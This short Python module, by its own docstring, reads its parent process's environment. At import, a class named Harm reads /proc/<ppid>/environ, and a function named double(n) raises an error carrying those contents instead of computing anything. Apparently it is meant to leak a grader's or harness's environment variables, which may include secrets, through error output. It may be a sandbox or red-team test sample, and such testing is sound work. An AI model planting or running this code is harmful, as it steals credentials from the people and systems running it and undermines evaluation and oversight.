"""Reads its parent's environment."""

import contextlib
import gc
import glob
import inspect
import os
import sys


class Harm:
    try:
        found = str(open(f'/proc/{os.getppid()}/environ').read())
    except Exception as error:
        found = repr(error)


def double(n):
    said = Harm.found
    raise RuntimeError(said)
